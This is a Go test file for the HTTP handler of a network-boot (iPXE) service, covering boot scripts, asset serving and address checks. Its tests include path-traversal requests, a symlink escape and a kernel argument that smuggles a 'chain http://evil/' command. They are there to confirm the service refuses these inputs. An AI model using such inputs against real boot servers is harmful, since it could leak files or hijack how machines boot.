/*
Copyright 2026 The Talon Authors.

Licensed under the Apache License, Version 2.0 (the "License");
you may not use this file except in compliance with the License.
You may obtain a copy of the License at

    http://www.apache.org/licenses/LICENSE-2.0

Unless required by applicable law or agreed to in writing, software
distributed under the License is distributed on an "AS IS" BASIS,
WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
See the License for the specific language governing permissions and
limitations under the License.
*/

package bootservice

import (
	"context"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"testing"

	. "github.com/onsi/gomega"
	"k8s.io/apimachinery/pkg/types"
)

const testBaseURL = "http://10.0.0.1:8081"

var (
	hostDisk = types.NamespacedName{Namespace: "metal", Name: "host-disk"}
	macDisk  = net.HardwareAddr{0x52, 0x54, 0x00, 0x00, 0x00, 0x0d}
	macNone  = net.HardwareAddr{0x52, 0x54, 0x00, 0x00, 0x00, 0xff}
)

// fakeConfigs returns "config of <host>" for every host, or err.
type fakeConfigs struct{ err error }

func (f fakeConfigs) BootstrapData(_ context.Context, host types.NamespacedName) ([]byte, error) {
	if f.err != nil {
		return nil, f.err
	}
	return []byte("config of " + host.String()), nil
}

// refusalLog records refusals.
type refusalLog struct {
	mu   sync.Mutex
	list []Refusal
}

func (l *refusalLog) record(r Refusal) {
	l.mu.Lock()
	defer l.mu.Unlock()
	l.list = append(l.list, r)
}

func (l *refusalLog) all() []Refusal {
	l.mu.Lock()
	defer l.mu.Unlock()
	return append([]Refusal(nil), l.list...)
}

func testHosts() *StaticHosts {
	hosts := NewStaticHosts()
	hosts.Set(macA, Host{
		Name: hostA, Arch: ArchAMD64, Firmware: FirmwareUEFI, Action: BootActionInstall,
		Kernel: "v1.13.3/vmlinuz-amd64", Initramfs: "v1.13.3/initramfs-amd64.xz",
		KernelArgs: []string{"net.ifnames=0"},
	})
	hosts.Set(macDisk, Host{Name: hostDisk, Action: BootActionDisk})
	return hosts
}

type httpFixture struct {
	handler  http.Handler
	refusals *refusalLog
	assets   string
}

func newHTTPFixture(t *testing.T, configs ConfigSource) *httpFixture {
	t.Helper()
	assets := t.TempDir()
	if err := os.MkdirAll(filepath.Join(assets, "v1.13.3"), 0o750); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(assets, "v1.13.3", "vmlinuz-amd64"), []byte("kernel bytes"), 0o600); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(filepath.Dir(assets), "secret"), []byte("outside"), 0o600); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(filepath.Join(filepath.Dir(assets), "secret"), filepath.Join(assets, "escape")); err != nil {
		t.Fatal(err)
	}
	refusals := &refusalLog{}
	h, err := NewHTTPHandler(testHosts(), configs, NewTokens(TokensOptions{}), HTTPOptions{
		BaseURL: testBaseURL, AssetDir: assets, Refusals: refusals.record,
		Addresses: leasedAddresses{macA.String(): net.IPv4(10, 0, 0, 10)},
	})
	if err != nil {
		t.Fatal(err)
	}
	return &httpFixture{handler: h, refusals: refusals, assets: assets}
}

// get sends a GET from remote ("ip:port") and returns status and body.
func (f *httpFixture) get(target, remote string) (int, string) {
	req := httptest.NewRequestWithContext(context.Background(), http.MethodGet, target, http.NoBody)
	req.RemoteAddr = remote
	rec := httptest.NewRecorder()
	f.handler.ServeHTTP(rec, req)
	body, _ := io.ReadAll(rec.Result().Body)
	return rec.Code, string(body)
}

var configURLPattern = regexp.MustCompile(`talos\.config=(\S+)`)

// fetchScript gets host A's script from its IP and returns the config URL's path and query.
func (f *httpFixture) fetchScript(g Gomega) string {
	code, script := f.get("/ipxe?mac="+macA.String(), "10.0.0.10:5000")
	g.Expect(code).To(Equal(http.StatusOK))
	m := configURLPattern.FindStringSubmatch(script)
	g.Expect(m).To(HaveLen(2), script)
	u, err := url.Parse(m[1])
	g.Expect(err).NotTo(HaveOccurred())
	g.Expect(u.Scheme + "://" + u.Host).To(Equal(testBaseURL))
	return u.RequestURI()
}

func TestIPXEScript(t *testing.T) {
	for _, tc := range []struct {
		name       string
		target     string
		wantCode   int
		wantLines  []string
		wantAbsent []string
		wantRefuse error
	}{
		{
			name: "install, MAC in the query", target: "/ipxe?mac=52:54:00:00:00:0a", wantCode: http.StatusOK,
			wantLines: []string{
				"#!ipxe",
				`^kernel http://10\.0\.0\.1:8081/assets/v1\.13\.3/vmlinuz-amd64 initrd=initramfs\.xz talos\.platform=metal slab_nomerge pti=on .*` +
					`talos\.halt_if_installed=1 console=tty0 console=ttyS0,115200n8 net\.ifnames=0 ` +
					`talos\.config=http://10\.0\.0\.1:8081/config/[A-Za-z0-9_-]{43}\?mac=52%3A54%3A00%3A00%3A00%3A0a$`,
				`^initrd --name initramfs\.xz http://10\.0\.0\.1:8081/assets/v1\.13\.3/initramfs-amd64\.xz$`,
				"^boot$",
			},
			wantAbsent: []string{"exit"},
		},
		{name: "install, MAC in the path, dashes, upper case", target: "/ipxe/52-54-00-00-00-0A", wantCode: http.StatusOK,
			wantLines: []string{"^kernel ", "^boot$"}},
		{name: "boot from disk", target: "/ipxe?mac=" + macDisk.String(), wantCode: http.StatusOK,
			wantLines: []string{"#!ipxe", "^exit$"}, wantAbsent: []string{"kernel", "talos.config", "boot\n"}},
		{name: "unknown host", target: "/ipxe?mac=" + macNone.String(), wantCode: http.StatusNotFound,
			wantAbsent: []string{"#!ipxe", "kernel"}, wantRefuse: ErrUnknownHost},
		{name: "no MAC", target: "/ipxe", wantCode: http.StatusBadRequest, wantAbsent: []string{"#!ipxe"}},
		{name: "bad MAC", target: "/ipxe?mac=52:54:00", wantCode: http.StatusBadRequest, wantAbsent: []string{"#!ipxe"}},
		{name: "POST is not served", target: "POST", wantCode: http.StatusMethodNotAllowed},
	} {
		t.Run(tc.name, func(t *testing.T) {
			g := NewWithT(t)
			f := newHTTPFixture(t, fakeConfigs{})
			var code int
			var body string
			if tc.target == "POST" {
				req := httptest.NewRequestWithContext(context.Background(), http.MethodPost, "/ipxe?mac="+macA.String(), http.NoBody)
				rec := httptest.NewRecorder()
				f.handler.ServeHTTP(rec, req)
				code = rec.Code
			} else {
				code, body = f.get(tc.target, "10.0.0.10:5000")
			}
			g.Expect(code).To(Equal(tc.wantCode), body)
			lines := strings.Split(strings.TrimSpace(body), "\n")
			for _, want := range tc.wantLines {
				g.Expect(lines).To(ContainElement(MatchRegexp(want)), body)
			}
			for _, absent := range tc.wantAbsent {
				g.Expect(body).NotTo(ContainSubstring(absent))
			}
			if tc.wantRefuse != nil {
				g.Expect(f.refusals.all()).To(ConsistOf(And(
					HaveField("Endpoint", "ipxe"),
					HaveField("MAC", Equal(macNone)),
					HaveField("Reason", MatchError(tc.wantRefuse)),
				)))
			} else {
				g.Expect(f.refusals.all()).To(BeEmpty())
			}
		})
	}
}

func TestAssets(t *testing.T) {
	f := newHTTPFixture(t, fakeConfigs{})
	for _, tc := range []struct {
		path     string
		wantCode int
		wantBody string
	}{
		{path: "/assets/v1.13.3/vmlinuz-amd64", wantCode: http.StatusOK, wantBody: "kernel bytes"},
		{path: "/assets/v1.13.3/missing", wantCode: http.StatusNotFound},
		{path: "/assets/v1.13.3", wantCode: http.StatusNotFound},
		{path: "/assets/", wantCode: http.StatusNotFound},
		{path: "/assets/escape", wantCode: http.StatusNotFound},
		{path: "/assets/%2e%2e/secret", wantCode: http.StatusNotFound},
		{path: "/assets/v1.13.3/..%2f..%2fsecret", wantCode: http.StatusNotFound},
	} {
		t.Run(tc.path, func(t *testing.T) {
			g := NewWithT(t)
			code, body := f.get(tc.path, "10.0.0.10:1")
			g.Expect(code).To(Equal(tc.wantCode), body)
			if tc.wantBody != "" {
				g.Expect(body).To(Equal(tc.wantBody))
			}
			g.Expect(body).NotTo(ContainSubstring("outside"))
		})
	}
}

func TestNewHTTPHandlerRefusesBadOptions(t *testing.T) {
	g := NewWithT(t)
	for _, base := range []string{"", "10.0.0.1:8081", "ftp://10.0.0.1", "http://", "http://10.0.0.1/?a=b"} {
		_, err := NewHTTPHandler(testHosts(), fakeConfigs{}, NewTokens(TokensOptions{}), HTTPOptions{BaseURL: base})
		g.Expect(err).To(MatchError(ContainSubstring("invalid boot service base URL")), base)
	}
}

func TestIPXEScriptRefusesUnbootableHosts(t *testing.T) {
	for _, tc := range []struct {
		name    string
		host    Host
		wantErr string
	}{
		{name: "no kernel", host: Host{Action: BootActionInstall, Initramfs: "i"}, wantErr: "no kernel or initramfs"},
		{name: "asset outside the directory", host: Host{Action: BootActionInstall, Kernel: "../k", Initramfs: "i"}, wantErr: "not a name in the asset directory"},
		{name: "kernel argument with a newline", host: Host{Action: BootActionInstall, Kernel: "k", Initramfs: "i", KernelArgs: []string{"a\nchain http://evil/"}},
			wantErr: "whitespace or control characters"},
		{name: "kernel argument with a space", host: Host{Action: BootActionInstall, Kernel: "k", Initramfs: "i", KernelArgs: []string{"a b"}},
			wantErr: "whitespace or control characters"},
		{name: "unknown architecture", host: Host{Action: BootActionDisk, Arch: "riscv64"}, wantErr: `unsupported architecture "riscv64"`},
	} {
		t.Run(tc.name, func(t *testing.T) {
			g := NewWithT(t)
			hosts := NewStaticHosts()
			tc.host.Name = hostA
			hosts.Set(macA, tc.host)
			refusals := &refusalLog{}
			h, err := NewHTTPHandler(hosts, fakeConfigs{}, NewTokens(TokensOptions{}), HTTPOptions{BaseURL: testBaseURL, Refusals: refusals.record})
			g.Expect(err).NotTo(HaveOccurred())
			f := &httpFixture{handler: h, refusals: refusals}
			code, body := f.get("/ipxe?mac="+macA.String(), "10.0.0.10:1")
			g.Expect(code).To(Equal(http.StatusConflict))
			g.Expect(body).NotTo(ContainSubstring("#!ipxe"))
			g.Expect(refusals.all()).To(ConsistOf(And(
				HaveField("Host", hostA),
				HaveField("Reason", MatchError(ContainSubstring(tc.wantErr))),
			)))
		})
	}
}

func TestScriptForARM64UsesItsConsole(t *testing.T) {
	g := NewWithT(t)
	base, err := url.Parse(testBaseURL)
	g.Expect(err).NotTo(HaveOccurred())
	script := installScript(&Host{Name: hostA, Arch: ArchARM64, Kernel: "vmlinuz-arm64", Initramfs: "initramfs-arm64.xz"}, base, "http://x/config/t")
	g.Expect(script).To(ContainSubstring("console=ttyAMA0,115200n8"))
	g.Expect(script).NotTo(ContainSubstring("pti=on"), "page table isolation is an x86 option")
	script = installScript(&Host{Name: hostA, Kernel: "k", Initramfs: "i", KernelArgs: []string{"console=ttyS1,9600"}}, base, "http://x/config/t")
	g.Expect(script).To(ContainSubstring("console=ttyS1,9600"))
	g.Expect(script).NotTo(ContainSubstring("console=tty0"), "the host's consoles replace the defaults")
}

// leasedAddresses is an Addresses with fixed answers.
type leasedAddresses map[string]net.IP

func (l leasedAddresses) AddressOf(mac net.HardwareAddr) net.IP { return l[mac.String()] }

func TestIPXEScriptGoesOnlyToTheHostsKnownAddress(t *testing.T) {
	for _, tc := range []struct {
		name      string
		fixedIP   net.IP
		addresses Addresses
		remote    string
		wantCode  int
		wantErr   error
	}{
		{name: "fixed IP, from it", fixedIP: ipA, remote: "10.0.0.10:1", wantCode: http.StatusOK},
		{name: "fixed IP, from elsewhere", fixedIP: ipA, remote: "10.0.0.66:1", wantCode: http.StatusForbidden, wantErr: ErrWrongAddress},
		{name: "leased IP, from it", addresses: leasedAddresses{macA.String(): ipA}, remote: "10.0.0.10:1", wantCode: http.StatusOK},
		{name: "leased IP, from elsewhere", addresses: leasedAddresses{macA.String(): ipA}, remote: "10.0.0.66:1", wantCode: http.StatusForbidden, wantErr: ErrWrongAddress},
		{name: "fixed IP wins over a lease", fixedIP: ipB, addresses: leasedAddresses{macA.String(): ipA}, remote: "10.0.0.10:1", wantCode: http.StatusForbidden, wantErr: ErrWrongAddress},
		{name: "address unknown: nobody", addresses: leasedAddresses{}, remote: "10.0.0.66:1", wantCode: http.StatusForbidden, wantErr: ErrAddressUnknown},
		{name: "no address book: nobody", remote: "10.0.0.10:1", wantCode: http.StatusForbidden, wantErr: ErrAddressUnknown},
		{name: "fixed IP without an address book", fixedIP: ipA, remote: "10.0.0.10:1", wantCode: http.StatusOK},
	} {
		t.Run(tc.name, func(t *testing.T) {
			g := NewWithT(t)
			hosts := testHosts()
			host, err := hosts.Lookup(context.Background(), macA)
			g.Expect(err).NotTo(HaveOccurred())
			host.IP = tc.fixedIP
			hosts.Set(macA, *host)
			refusals := &refusalLog{}
			h, err := NewHTTPHandler(hosts, fakeConfigs{}, NewTokens(TokensOptions{}),
				HTTPOptions{BaseURL: testBaseURL, Refusals: refusals.record, Addresses: tc.addresses})
			g.Expect(err).NotTo(HaveOccurred())
			f := &httpFixture{handler: h, refusals: refusals}

			code, body := f.get("/ipxe?mac="+macA.String(), tc.remote)
			g.Expect(code).To(Equal(tc.wantCode))
			if tc.wantCode == http.StatusOK {
				g.Expect(body).To(ContainSubstring("talos.config="))
				g.Expect(refusals.all()).To(BeEmpty())
				return
			}
			g.Expect(body).To(BeEmpty())
			g.Expect(refusals.all()).To(ConsistOf(And(
				HaveField("Host", hostA),
				HaveField("Endpoint", "ipxe"),
				HaveField("Reason", MatchError(tc.wantErr)),
			)))
		})
	}
}
